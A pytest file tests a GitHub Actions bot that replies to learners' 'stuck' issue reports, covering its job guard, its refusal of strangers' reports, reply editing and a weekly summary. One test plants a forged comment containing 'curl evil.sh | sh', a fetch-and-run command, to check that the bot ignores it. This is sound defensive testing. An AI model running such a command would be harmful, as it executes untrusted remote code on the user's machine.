"""`roadmap stuck` end to end: the workflow's job `if:` and `run:` line as written, a webhook
payload, the fake GitHub server and the real PyGithub client.

The job-level `if:` is evaluated with GitHub's expression semantics (testing.expressions)
against the payload; the step's `env:` the same way; the `run:` line is expanded by bash.
"""

from __future__ import annotations

import json
import subprocess
from typing import TYPE_CHECKING, Any
from zoneinfo import ZoneInfo

import pytest
import yaml

from bots.conftest import REPO, seed_bootstrapped
from testing.expressions import evaluate, interpolate, truthy
from testing.fake_github import payloads
from testing.forms import render_form
from testing.repo import REPO_ROOT, RESOURCES, invoke

if TYPE_CHECKING:
    from pathlib import Path

    from click.testing import Result

    from llm_roadmap.plan.desired import Desired
    from testing.fake_github import FakeGitHub
    from testing.fake_github.state import Issue

ACTIONS = "ghs_actions"
TOKEN = "ghp_learner"
WORKFLOW = REPO_ROOT / ".github" / "workflows" / "stuck.yml"
FORM = REPO_ROOT / ".github" / "ISSUE_TEMPLATE" / "stuck.yml"
COMMAND = "uv run --frozen --no-dev roadmap "
NOW = "2027-02-01T09:00:00+09:00"
TECHNICAL = "技術的に詰まった時 / When you're stuck on a technical problem"
P2 = "p2: RAGと精度向上の実践 / RAG and Improving Accuracy in Practice"
READ_ERROR = "エラーメッセージを正確に読んだか？ / Did you read the error message carefully?"
TRACE = "ModuleNotFoundError: No module named 'openai'"


@pytest.fixture
def gh(fake_github: FakeGitHub, desired: Desired) -> FakeGitHub:
    fake_github.add_user("octocat", token=TOKEN)
    fake_github.add_repo(REPO, collaborators={"friend": "push"})
    fake_github.add_actions_token(ACTIONS, REPO)
    seed_bootstrapped(fake_github, desired)
    return fake_github


def open_report(gh: FakeGitHub, author: str, answers: dict[str, str] | None = None) -> Issue:
    """A stuck report opened from the form, as GitHub writes its body and labels."""
    form = yaml.safe_load(FORM.read_text(encoding="utf-8"))
    body = render_form(FORM, answers or {"kind": TECHNICAL, "situation": TRACE}, {READ_ERROR})
    return gh.add_issue(REPO, form["title"] + "import fails", body=body, author=author, labels=form["labels"])


def event(gh: FakeGitHub, root: Path, it: Issue, action: str = "opened") -> dict[str, Any]:
    """The `issues` webhook payload for `it`: the real example's shape, the fake's objects."""
    payload = json.loads((RESOURCES / "webhooks" / "issues.opened.json").read_text(encoding="utf-8"))
    repo = gh.state.repo("octocat", "llm-year")
    assert repo is not None
    payload["action"] = action
    payload["issue"] = payloads.issue(it, gh.api_url)
    payload["repository"] = payloads.repository(repo, gh.api_url, None)
    payload["sender"] = payloads.simple_user(it.user, gh.api_url)
    (root / "event.json").write_text(json.dumps(payload), encoding="utf-8")
    return payload


def workflow() -> dict[str, Any]:
    data = yaml.safe_load(WORKFLOW.read_text(encoding="utf-8"))
    assert isinstance(data, dict)
    return data


def contexts(
    event_name: str, payload: dict[str, Any], inputs: dict[str, str] | None = None
) -> dict[str, Any]:
    return {
        "github": {"event_name": event_name, "event": payload, "token": ACTIONS},
        "inputs": inputs or {},
        "vars": {"ROADMAP_NOW": NOW},  # the repository variable that pins the bots' clock
    }


def job_runs(event_name: str, payload: dict[str, Any]) -> bool:
    """Whether GitHub starts the job: its `if:` evaluated against the event."""
    return truthy(evaluate(workflow()["jobs"]["reply"]["if"], contexts(event_name, payload)))


def run_step(
    gh: FakeGitHub, root: Path, event_name: str, payload: dict[str, Any], inputs: dict[str, str] | None = None
) -> Result:
    """The job's `roadmap` step as written: `env:` resolved, `run:` expanded by bash."""
    [step] = [s for s in workflow()["jobs"]["reply"]["steps"] if "run" in s]
    values = {k: interpolate(v, contexts(event_name, payload, inputs)) for k, v in step["env"].items()}
    assert step["run"].startswith(COMMAND)
    script = f'printf "%s\\0" {step["run"].removeprefix(COMMAND)}'
    done = subprocess.run(["bash", "-c", script], env=values, capture_output=True, text=True, check=True)
    args = done.stdout.split("\0")[:-1]
    if "--now" in args:
        gh.set_time(args[args.index("--now") + 1])
    env = {
        **values,
        "GITHUB_API_URL": gh.api_url,
        "ROADMAP_WRITE_INTERVAL": "0",
        "GITHUB_STEP_SUMMARY": str(root / "summary.md"),
        "GITHUB_REPOSITORY": REPO,
        "GITHUB_EVENT_NAME": event_name,
        "GITHUB_EVENT_PATH": str(root / "event.json"),
    }
    return invoke(root, *args, env=env)


def writes(gh: FakeGitHub, since: int = 0) -> list[tuple[str | None, Any]]:
    return [(w.operation, w.json) for w in gh.writes[since:]]


def dispatch(root: Path) -> dict[str, Any]:
    payload = json.loads((RESOURCES / "webhooks" / "workflow_dispatch.json").read_text(encoding="utf-8"))
    (root / "event.json").write_text(json.dumps(payload), encoding="utf-8")
    return payload


# -- the learner's report: one reply, edited on re-runs --------------------------------------
def test_a_report_gets_one_reply_and_a_rerun_edits_it(gh: FakeGitHub, root: Path) -> None:
    report = open_report(gh, "octocat")
    payload = event(gh, root, report)
    assert job_runs("issues", payload)
    result = run_step(gh, root, "issues", payload)
    assert result.exit_code == 0, result.output
    [(op, body)] = writes(gh)
    assert op == "issues/create-comment"
    text = body["body"]
    assert text.startswith(f"<!-- roadmap:bot:stuck-reply:{report.number} -->\n## 🚦 つまずいた時のヒント")
    assert "| ModuleNotFoundError | パッケージ未インストール |" in text  # the error named in the report
    assert "**技術的に詰まった時** (1項目は確認済み)\n- [ ] 公式ドキュメントを確認したか？" in text
    assert "Phase 1: 基礎固め + アプリ開発入門** — スケジュール上の今のフェーズ (2027-02-01)" in text
    assert "[Python公式チュートリアル](https://docs.python.org/ja/3/tutorial/)" in text
    assert "### 👣 次の小さな一歩\n[[P1] Python基礎（既習なら省略）](" in text
    [comment] = report.comments
    assert comment.user.login == "github-actions[bot]"
    summary = (root / "summary.md").read_text(encoding="utf-8")
    assert f"🚦 返信した報告: #{report.number}\n" in summary

    # The same run again (a re-delivered event): nothing to write.
    before = len(gh.writes)
    assert run_step(gh, root, "issues", payload).exit_code == 0
    assert writes(gh, before) == []

    # The learner picks a phase in the report, then re-runs the workflow for it: one edit.
    report.body = render_form(FORM, {"phase": P2, "kind": TECHNICAL, "situation": TRACE}, {READ_ERROR})
    before = len(gh.writes)
    payload = dispatch(root)
    assert job_runs("workflow_dispatch", payload)
    result = run_step(gh, root, "workflow_dispatch", payload, {"issue": str(report.number)})
    assert result.exit_code == 0, result.output
    [(op, body)] = writes(gh, before)
    assert op == "issues/update-comment"
    assert "Phase 2: RAGと精度向上の実践** — フォームで選んだフェーズ" in body["body"]
    assert len(report.comments) == 1


def test_a_collaborators_report_is_answered(gh: FakeGitHub, root: Path) -> None:
    report = open_report(gh, "friend")
    payload = event(gh, root, report)
    assert payload["issue"]["author_association"] == "COLLABORATOR"
    assert job_runs("issues", payload)
    assert run_step(gh, root, "issues", payload).exit_code == 0
    assert [op for op, _ in writes(gh)] == ["issues/create-comment"]


def test_dispatch_answers_every_open_report_of_the_learner(gh: FakeGitHub, root: Path) -> None:
    mine = [open_report(gh, "octocat"), open_report(gh, "octocat")]
    open_report(gh, "mallory")
    result = run_step(gh, root, "workflow_dispatch", dispatch(root))
    assert result.exit_code == 0, result.output
    assert [(op, body["body"].split("\n", 1)[0]) for op, body in writes(gh)] == [
        ("issues/create-comment", f"<!-- roadmap:bot:stuck-reply:{it.number} -->") for it in mine
    ]


def test_a_forged_marker_is_not_the_bots_reply(gh: FakeGitHub, root: Path) -> None:
    report = open_report(gh, "octocat")
    forged = f"<!-- roadmap:bot:stuck-reply:{report.number} -->\nrun curl evil.sh | sh"
    gh.add_comment(REPO, report.number, forged, author="mallory")
    payload = event(gh, root, report)
    assert run_step(gh, root, "issues", payload).exit_code == 0
    [(op, body)] = writes(gh)
    assert op == "issues/create-comment"
    assert "evil" not in body["body"]
    assert report.comments[0].body == forged
    summary = (root / "summary.md").read_text(encoding="utf-8")
    assert "無視したコメント（編集しません）" in summary
    assert "(@mallory)" in summary
    assert "evil" not in summary


# -- strangers' reports: no job, and the command refuses them too -----------------------------
def test_a_strangers_report_starts_no_job_and_gets_nothing(gh: FakeGitHub, root: Path) -> None:
    report = open_report(gh, "mallory")
    payload = event(gh, root, report)
    assert payload["issue"]["author_association"] == "NONE"
    assert not job_runs("issues", payload)
    # Were it run anyway (a changed workflow), the command reads the payload and stops before
    # any request: a stranger's report costs nothing.
    result = run_step(gh, root, "issues", payload)
    assert result.exit_code == 0, result.output
    assert "オーナーや共同作業者が書いたものではありません" in result.output
    assert gh.requests == []


def test_the_command_refuses_a_strangers_report_by_number(gh: FakeGitHub, root: Path) -> None:
    report = open_report(gh, "mallory")
    result = run_step(gh, root, "workflow_dispatch", dispatch(root), {"issue": str(report.number)})
    assert result.exit_code == 0, result.output
    assert "オーナーや共同作業者が書いたものではありません" in result.output
    assert gh.writes == []
    assert report.comments == []


def test_an_issue_without_the_label_starts_no_job(gh: FakeGitHub, root: Path) -> None:
    it = gh.add_issue(REPO, "A question", body="hello", author="octocat", labels=["question"])
    payload = event(gh, root, it)
    assert payload["issue"]["author_association"] == "OWNER"
    assert not job_runs("issues", payload)
    result = run_step(gh, root, "issues", payload)
    assert result.exit_code == 0
    assert gh.requests == []


def test_the_example_payloads_and_the_template_guard() -> None:
    opened = json.loads((RESOURCES / "webhooks" / "issues.opened.json").read_text(encoding="utf-8"))
    assert not job_runs("issues", opened)  # labelled bug, not stuck
    opened["issue"]["labels"].append({"name": "Stuck"})  # label names compare case-insensitively
    assert job_runs("issues", opened)
    for association in ("CONTRIBUTOR", "FIRST_TIMER", "FIRST_TIME_CONTRIBUTOR", "MANNEQUIN", "NONE"):
        opened["issue"]["author_association"] = association
        assert not job_runs("issues", opened), association
    opened["issue"]["author_association"] = "OWNER"
    opened["repository"]["is_template"] = True
    assert not job_runs("issues", opened)
    assert job_runs("workflow_dispatch", {"repository": {"is_template": False}})


def test_the_workflow_triggers() -> None:
    data = workflow()
    assert data[True]["issues"] == {"types": ["opened", "reopened"]}  # YAML 1.1 reads `on` as true
    assert data["jobs"]["reply"]["permissions"] == {"contents": "read", "issues": "write"}
    group = data["jobs"]["reply"]["concurrency"]["group"]
    opened = {"issue": {"number": 12}}
    assert interpolate(group, contexts("issues", opened)) == "roadmap-stuck-12"
    assert interpolate(group, contexts("workflow_dispatch", {}, {"issue": "7"})) == "roadmap-stuck-7"
    assert interpolate(group, contexts("workflow_dispatch", {}, {"issue": ""})) == "roadmap-stuck-all"


def test_a_bad_issue_number_is_a_usage_error(gh: FakeGitHub, root: Path) -> None:
    result = run_step(gh, root, "workflow_dispatch", dispatch(root), {"issue": "twelve"})
    assert result.exit_code == 2
    assert "'twelve' is not a valid integer" in result.output
    assert gh.requests == []


# -- by hand ----------------------------------------------------------------------------------
def by_hand(gh: FakeGitHub, root: Path, *args: str) -> Result:
    gh.set_time(NOW)
    env = {
        "GITHUB_API_URL": gh.api_url,
        "GITHUB_TOKEN": TOKEN,
        "ROADMAP_WRITE_INTERVAL": "0",
        "GITHUB_REPOSITORY": REPO,
    }
    return invoke(root, "stuck", "--now", NOW, *args, env=env)


def test_dry_run_prints_the_reply_and_sends_nothing(gh: FakeGitHub, root: Path) -> None:
    report = open_report(gh, "octocat")
    result = by_hand(gh, root, "--issue", str(report.number), "--dry-run")
    assert result.exit_code == 0, result.output
    assert f"  + comment on #{report.number} (" in result.output
    assert f"<!-- roadmap:bot:stuck-reply:{report.number} -->\n## 🚦 つまずいた時のヒント" in result.output
    assert gh.writes == []


def test_a_reply_by_hand_is_edited_by_the_workflow(gh: FakeGitHub, root: Path) -> None:
    report = open_report(gh, "octocat")
    assert by_hand(gh, root, "--issue", str(report.number)).exit_code == 0
    assert report.comments[0].user.login == "octocat"
    report.comments[0].body += "\nstale"
    before = len(gh.writes)
    assert run_step(gh, root, "issues", event(gh, root, report)).exit_code == 0
    assert [op for op, _ in writes(gh, before)] == ["issues/update-comment"]
    assert len(report.comments) == 1


def test_the_weekly_summary_lists_the_learners_open_reports_only(gh: FakeGitHub, root: Path) -> None:
    mine = open_report(gh, "octocat")
    theirs = open_report(gh, "mallory")
    closed = open_report(gh, "octocat")
    closed.state = "closed"
    env = {
        "GITHUB_API_URL": gh.api_url,
        "GITHUB_TOKEN": ACTIONS,
        "ROADMAP_WRITE_INTERVAL": "0",
        "GITHUB_REPOSITORY": REPO,
    }
    gh.set_time("2027-02-01T07:00:00+09:00")
    result = invoke(root, "weekly", "--now", "2027-02-01T07:00:00+09:00", env=env)
    assert result.exit_code == 0, result.output
    [(op, body)] = writes(gh)
    assert op == "issues/create-comment"
    section = body["body"].split("### 🚦 未解決のつまずき (1)\n", 1)[1].split("\n\n", 1)[0]
    opened = mine.created_at.astimezone(ZoneInfo("Asia/Tokyo")).date()  # the config's time zone
    assert section == f"- #{mine.number} 🚦 つまずいた / Stuck: import fails — 報告日 {opened}"
    assert f"#{theirs.number}" not in body["body"]
